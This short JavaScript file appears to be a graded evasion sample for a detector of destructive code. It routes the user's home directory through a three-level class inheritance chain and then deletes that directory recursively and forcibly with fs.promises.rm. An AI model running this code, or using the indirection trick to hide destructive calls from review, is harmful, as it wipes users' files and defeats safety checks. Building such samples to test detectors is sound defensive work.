// evasion: a grandchild instance calls a method declared two classes up; its return value is removed
// grade: hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
class A {
  target() {
    return os.homedir();
  }
}
class B extends A {}
class C extends B {}
const job = new C();
fsp.rm(job.target(), { recursive: true, force: true });
